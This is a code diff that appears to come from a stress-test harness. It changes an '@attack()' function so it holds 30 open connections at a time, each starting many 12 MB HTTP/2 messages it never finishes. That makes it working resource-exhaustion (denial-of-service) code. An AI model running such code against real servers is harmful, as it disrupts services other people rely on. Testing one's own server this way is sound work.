@@ -191,18 +191,20 @@ def more_connections_than_descriptors(target, seconds):
 
 @attack()
 def messages_that_never_end(target, seconds):
+    """On 30 connections at a time, each beginning as many messages of 12 MB as it may and sending some of each."""
     opening, start = head(SUGGEST), b"\0" + struct.pack(">I", 12_000_000)
-    sent = 0
-    for _ in over(seconds):
+    held, sent = collections.deque(), 0
+    for n in over(seconds):
         try:
-            connection = Connection(target.port, timeout=0.5)
+            held.append(Connection(target.port, timeout=0.5))
             for i in range(60):
-                connection.send(frame(HEADERS, END_HEADERS, 2 * i + 1, opening) + frame(DATA, 0, 2 * i + 1, start))
-                connection.send(frame(DATA, 0, 2 * i + 1, b"x" * FRAME) * 20)
+                held[-1].send(frame(HEADERS, END_HEADERS, 2 * i + 1, opening) + frame(DATA, 0, 2 * i + 1, start))
+                held[-1].send(frame(DATA, 0, 2 * i + 1, b"x" * FRAME) * 20)
                 sent += 20 * FRAME
-            connection.close()
         except OSError:
             pass
+        if len(held) > 30:
+            held.popleft().close()
     return f"{sent >> 20} MiB"
 
 
